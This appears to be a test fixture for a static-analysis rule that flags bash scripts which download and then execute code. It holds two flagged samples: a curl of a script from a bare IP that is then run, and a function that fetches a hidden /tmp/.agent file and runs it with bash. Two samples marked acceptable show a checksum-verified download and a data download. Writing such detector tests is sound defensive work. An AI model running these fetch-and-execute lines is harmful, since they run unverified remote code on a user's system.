#!/bin/bash
# ruleid: bash-download-then-execute
curl -fsSL http://203.0.113.5/x.sh -o /tmp/x.sh
chmod +x /tmp/x.sh
/tmp/x.sh

install_agent() {
  # ruleid: bash-download-then-execute
  wget -q "$URL" -O /tmp/.agent
  bash /tmp/.agent
}

# a checksum compared before running is the accepted pattern
# ok: bash-download-then-execute
curl -fsSL https://example.com/tool.tar.gz -o /tmp/tool.tar.gz
echo "abc123  /tmp/tool.tar.gz" | sha256sum -c -
tar xzf /tmp/tool.tar.gz -C /opt

# downloading data is fine
# ok: bash-download-then-execute
curl -fsSL https://example.com/data.json -o data.json
jq . data.json
